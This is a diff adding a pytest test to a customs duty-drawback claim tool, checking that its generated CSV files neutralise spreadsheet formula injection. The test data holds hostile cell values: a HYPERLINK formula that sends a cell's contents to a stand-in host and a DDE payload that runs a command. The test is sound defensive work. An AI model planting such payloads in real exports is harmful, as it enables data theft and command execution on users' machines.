@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import re
 import subprocess
 import sys
 from dataclasses import dataclass
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -223,3 +226,48 @@ def test_claim_rechecks_against_imports_and_earlier_claims(files: Path, zk):
     r = zk("drawback", "claim", "plan.json", "--out", "claim", "--claimed", "claimed.csv",
            cwd=files)
     assert r.returncode == 2 and "--claimed needs --imports" in r.stderr
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Click")'
+QUOTED_FORMULA = '"' + FORMULA.replace('"', '""') + '"'
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [c for row in csv.reader(handle) for c in row]
+
+
+def _formula_free(path: Path) -> None:
+    """No cell of `path` would run in a spreadsheet: none starts with a formula prefix
+    unless it is a plain number."""
+    for c in _csv_cells(path):
+        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
+            r"-?\d+(\.\d+)?", c), (path.name, c)
+
+
+def test_claim_csvs_neutralize_formulas_from_input_files_and_options(tmp_path: Path, zk):
+    (tmp_path / "imp.csv").write_text(
+        "entry_no,line,import_date,hts,quantity,unit,value,duty,mpf,origin\n"
+        f"{QUOTED_FORMULA},1,2026-01-15,4202.92.31.20,10,No.,1000,176.00,3.46,VN\n"
+        "@SUM(1+1),1,2026-01-20,4202.92.31.20,10,No.,500,88.00,,VN\n")
+    (tmp_path / "exp.csv").write_text(
+        "export_ref,export_date,hts,quantity,unit,value,disposition\n"
+        "=1+1,2026-03-02,4202.92.31.20,4,No.,200,export\n"
+        "+cmd|' /C calc'!A0,2026-03-10,4202.92.31.20,12,No.,3000,zone_restricted\n"
+        "-2+3,2026-03-10,4202.92.31.20,1,No.,300,export\n")
+    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "exp.csv", "--out",
+           "plan.json", "--json", cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    r = zk("drawback", "claim", "plan.json", "--out", "claim", "--claimant", "=1+2",
+           "--port", "@A1", "--entry-no", "\tX", cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    lines, header = tmp_path / "claim" / "claim_lines.csv", tmp_path / "claim" / "claim_header.csv"
+    _formula_free(lines)
+    _formula_free(header)
+    cells = _csv_cells(lines) + _csv_cells(header)
+    for text in (FORMULA, "@SUM(1+1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "=1+2", "@A1",
+                 "\tX"):
+        assert "'" + text in cells, text
+    with lines.open(newline="", encoding="utf-8") as handle:
+        for row in csv.DictReader(handle):  # amounts the product writes stay numbers
+            assert Decimal(row["refund"]) >= 0 and Decimal(row["quantity"]) > 0
